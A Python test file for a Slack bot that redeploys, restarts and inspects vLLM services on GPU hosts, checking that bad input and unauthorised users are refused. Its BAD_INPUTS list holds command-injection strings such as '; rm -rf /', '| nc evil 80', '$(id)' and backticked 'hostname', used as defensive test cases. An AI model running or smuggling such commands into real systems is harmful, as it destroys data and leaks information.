"""``/vllm`` subcommands through the real bolt app (signed HTTP requests), with the
fake Slack, real SQLite and the simulated GPU host."""

from __future__ import annotations

import json
from pathlib import Path

from bot.sim.kit import SimKit, fast_config
from bot.sim.sshd import free_port
from bot.slack.grammar import COMMANDS, usage
from tests.slack_harness import (
    ALICE,
    BOB,
    CHANNEL,
    MALLORY,
    OTHER_CHANNEL,
    SERVICE,
    blocks_text,
    slack_bot,
)
from tests.support.sim import MakeSimHost


def ack_text(body: str) -> str:
    return str(json.loads(body).get("text", "")) if body.startswith("{") else body


# (text as typed after /vllm, a phrase the ephemeral answer must contain)
BAD_INPUTS = [
    ("frobnicate kimi-k25", "Valid commands: help, redeploy, restart"),
    ("redeploy no-such-service", "Configured services: kimi-k25"),
    ("redeploy kimi-k25 --version banana", "not a valid PEP 440 version"),
    ("redeploy kimi-k25 --index evil", "Configured indexes for kimi-k25: cu129, nightly"),
    ("redeploy kimi-k25; rm -rf /", "not allowed"),
    ("restart kimi-k25 && reboot", "not allowed"),
    ("logs kimi-k25 -n 5 | nc evil 80", "not allowed"),
    ("status $(id)", "not allowed"),
    ("gpus `hostname`", "not allowed"),
    ("restart kimi-k25 extra words", "Unexpected extra words"),
    ("cancel twelve", "not a run id"),
    ("audit --limit 100000", "--limit must be a whole number"),
    ("rollback kimi-k25", "rollback switches side-by-side releases; kimi-k25 is in_place"),
]


async def test_bad_input_is_refused_ephemerally_recorded_and_never_reaches_a_host(
    tmp_path: Path, sim_host: SimKit
) -> None:
    async with slack_bot(tmp_path, sim_host) as bot:
        for n, (text, phrase) in enumerate(BAD_INPUTS, start=1):
            res = await bot.command(text)
            assert res.status == 200
            answer = ack_text(res.text)
            assert phrase in answer, (text, answer)
            assert "in_channel" not in res.text  # Slack shows an ack's text only to its sender
            rows = await bot.refusals(n)
            assert rows[0].command == f"/vllm {text}" and rows[0].user == ALICE
        await bot.front_end.idle()
        assert bot.fake.calls("chat.postMessage") == []
        assert await bot.runtime.audit.list_runs() == []
        assert sim_host.calls() == []


async def test_commands_from_other_channels_are_refused(tmp_path: Path, sim_host: SimKit) -> None:
    async with slack_bot(tmp_path, sim_host) as bot:
        res = await bot.command(f"redeploy {SERVICE}", channel=OTHER_CHANNEL)
        assert f"<#{CHANNEL}>" in ack_text(res.text)
        rows = await bot.refusals(1)
        assert rows[0].channel == OTHER_CHANNEL
        await bot.front_end.idle()
        assert await bot.runtime.audit.list_runs() == []
        assert sim_host.calls() == []


async def test_requesters_outside_the_policy_are_refused(tmp_path: Path, sim_host: SimKit) -> None:
    async with slack_bot(tmp_path, sim_host) as bot:
        res = await bot.command(f"redeploy {SERVICE}", user=MALLORY)
        assert res.status == 200
        notes = await bot.ephemerals_for(MALLORY)
        assert "not on the requesters list" in notes[-1]["text"]
        rows = await bot.refusals(1)
        assert rows[0].user == MALLORY
        await bot.front_end.idle()
        assert await bot.runtime.audit.list_runs() == []
        assert sim_host.calls() == []


async def test_help_lists_every_command_with_its_usage(tmp_path: Path, sim_host: SimKit) -> None:
    async with slack_bot(tmp_path, sim_host) as bot:
        answer = ack_text((await bot.command("help")).text)
        listed = [line for line in answer.splitlines() if line.startswith("• ")]
        assert len(listed) == len(COMMANDS)
        for name, line in zip(COMMANDS, listed, strict=True):
            assert usage(name).replace("<", "&lt;").replace(">", "&gt;") in line
        assert ack_text((await bot.command("")).text) == answer


def test_readme_and_manifest_list_every_command() -> None:
    root = Path(__file__).resolve().parents[2]
    manifest = (root / "deploy" / "slack-manifest.yml").read_text()
    hint = next(line for line in manifest.splitlines() if "usage_hint" in line)
    for name in COMMANDS:
        assert f" {name}" in hint or f'"{name}' in hint, name
    readme = (root / "README.md").read_text()
    for name in COMMANDS:
        assert usage(name) in readme, name


async def test_status_reads_the_service_and_posts_the_answer_recording_no_run(
    tmp_path: Path, sim_host: SimKit
) -> None:
    # Requests in flight, finishing over 10 minutes: the counts hold while the test reads.
    sim_host.update_config(busy_running=4, busy_waiting=2, busy_drain_s=600.0)
    sim_host.set_faults(busy=True)
    async with slack_bot(tmp_path, sim_host) as bot:
        await bot.command(f"status {SERVICE}")
        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "Status" in m.get("text", ""))
        text = blocks_text(msg)
        assert "vllm-kimi-k25: active" in text and "gpu-node-1: 8 GPUs" in text
        # The model served, the load from /metrics, and how the last start went (none is
        # in this fresh audit log).
        assert "serving kimi-k2.5; 4 running, 2 waiting requests, KV cache" in text, text
        assert "last start: no successful start recorded yet" in text, text
        # A read is no run: nothing in the audit log, whoever asks and however often.
        await bot.command(f"status {SERVICE}", user=MALLORY)
        await bot.fake.wait_for(
            lambda: len([m for m in bot.fake.messages(CHANNEL) if "Status" in str(m)]) == 2,
            what="the second status answer",
        )
        assert await bot.runtime.audit.list_runs() == []
        await bot.front_end.idle()
        tools = {c.tool for c in sim_host.calls()}
        assert "systemctl" in tools
        assert not [c for c in sim_host.calls() if "stop" in c.argv or "install" in c.argv]


async def test_gpus_answers_with_a_code_block(tmp_path: Path, sim_host: SimKit) -> None:
    async with slack_bot(tmp_path, sim_host) as bot:
        await bot.command("gpus gpu-node-1")
        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "GPUs" in m.get("text", ""))
        text = blocks_text(msg)
        assert "```" in text and "1/1 hosts ok" in text and "total" in text


async def test_a_fleet_too_big_for_one_message_gets_a_summary_and_the_full_file(
    tmp_path: Path, make_sim_host: MakeSimHost
) -> None:
    kits = [await make_sim_host(config=fast_config(hostname=f"gpu-node-{i}")) for i in range(1, 5)]
    hosts = {k.hostname: k.host_settings() for k in kits}
    # And two hosts that cannot answer: a closed port and an unknown host key.
    hosts["gpu-node-dead"] = {**kits[0].host_settings(), "port": free_port()}
    hosts["gpu-node-moved"] = {**kits[1].host_settings(), "known_hosts": str(tmp_path / "kh")}
    (tmp_path / "kh").write_text("")
    services = {SERVICE: kits[0].service_settings()}
    async with slack_bot(tmp_path, kits[0], hosts=hosts, services=services) as bot:
        await bot.command("gpus")
        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "GPUs" in m.get("text", ""))
        text = blocks_text(msg)
        assert "4/6 hosts ok, 2 unreachable" in text
        assert "gpu-node-dead" in text and "gpu-node-moved" in text
        await bot.front_end.idle()
        [log] = [f for f in bot.fake.files if f.text and "gpu-node-4" in f.text]
        for k in kits:  # every host's full per-GPU table is in the file
            assert f"{k.hostname}: 8 GPUs" in log.text
        assert all(c.ok for c in bot.fake.calls())


async def test_logs_posts_the_journal_tail(tmp_path: Path, sim_host: SimKit) -> None:
    async with slack_bot(tmp_path, sim_host) as bot:
        await bot.command(f"logs {SERVICE} -n 5")
        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "journalctl" in m.get("text", ""))
        assert "== gpu-node-1" in blocks_text(msg)
        journal = [c for c in sim_host.calls("journalctl")]
        assert journal and journal[0].argv[1:] == ("-u", "vllm-kimi-k25", "-n", "5", "--no-pager")


async def test_audit_posts_the_table(tmp_path: Path, sim_host: SimKit) -> None:
    async with slack_bot(tmp_path, sim_host) as bot:
        await bot.command(f"restart {SERVICE}")
        await bot.wait_for_run(lambda r: r.message_ts is not None, "the card")
        await bot.command(f"audit {SERVICE} --limit 5")
        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "Audit log" in m.get("text", ""))
        text = blocks_text(msg)
        assert "REQUESTED BY" in text and "pending_approval" in text and ALICE in text


async def test_audit_of_one_run_posts_its_view_with_the_package_change(
    tmp_path: Path, sim_host: SimKit
) -> None:
    async with slack_bot(tmp_path, sim_host) as bot:
        await bot.command(f"redeploy {SERVICE} --version 0.31.0 --index nightly")
        record = await bot.wait_for_run(lambda r: r.message_ts is not None, "the card")
        await bot.click("approve", record.id, user=BOB)
        done = await bot.wait_status(
            record.id, "succeeded", "failed", "rolled_back", "aborted", timeout_s=60
        )
        assert done.status == "succeeded", done.summary

        await bot.command(f"audit #{record.id}")
        msg = await bot.fake.wait_for_message(
            CHANNEL, lambda m: m.get("text", "") == f"Run #{record.id}"
        )
        text = blocks_text(msg)
        assert f"run #{record.id}: redeploy {SERVICE} on gpu-node-1: succeeded" in text
        # The install's own change (torch moved with vLLM), not only the dry run's plan.
        made = text.split("Package changes the install made:\n", 1)[1]
        assert "! torch 2.12.1+cu129 → 2.13.0" in made, text

        await bot.command(f"audit #{record.id + 1}")
        notes = await bot.ephemerals_for(ALICE)
        assert notes[-1]["text"] == f"There is no run #{record.id + 1} in the audit log."


async def test_doctor_is_for_requesters_and_answers_the_asker_alone(
    tmp_path: Path, sim_host: SimKit
) -> None:
    async with slack_bot(tmp_path, sim_host) as bot:
        refused = ack_text((await bot.command("doctor", user=MALLORY)).text)
        assert "cannot run doctor" in refused
        assert (await bot.refusals(1))[0].user == MALLORY
        await bot.command(f"doctor {SERVICE}", user=ALICE)
        # Issue 17 F10: how the hosts are set up (accounts, sudo rules, what fails) is the
        # asker's to read, not the channel's: an ephemeral answer, nothing posted.
        answer = (await bot.ephemerals_for(ALICE))[-1]
        await bot.front_end.idle()
        text = blocks_text(answer)
        assert "doctor: service kimi-k25" in text
        assert "nvidia-smi" in text and "vllm-kimi-k25: active (running)" in text
        assert answer["via"] == "response_url" and answer["channel"] == CHANNEL
        assert not any("doctor" in blocks_text(m) for m in bot.fake.messages(CHANNEL))
        assert bot.fake.files == []
        # It read the host and changed nothing there.
        assert sim_host.calls("nvidia-smi") and sim_host.changes() == []


async def test_releases_posts_each_hosts_releases(
    tmp_path: Path, make_sim_host: MakeSimHost
) -> None:
    kit = await make_sim_host(side_by_side=True)
    async with slack_bot(tmp_path, kit) as bot:
        await bot.command(f"releases {SERVICE}")
        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "releases:" in m.get("text", ""))
        text = blocks_text(msg)
        assert f"== gpu-node-1: live {kit.live_release()}" in text, text
        assert "(live)" in text
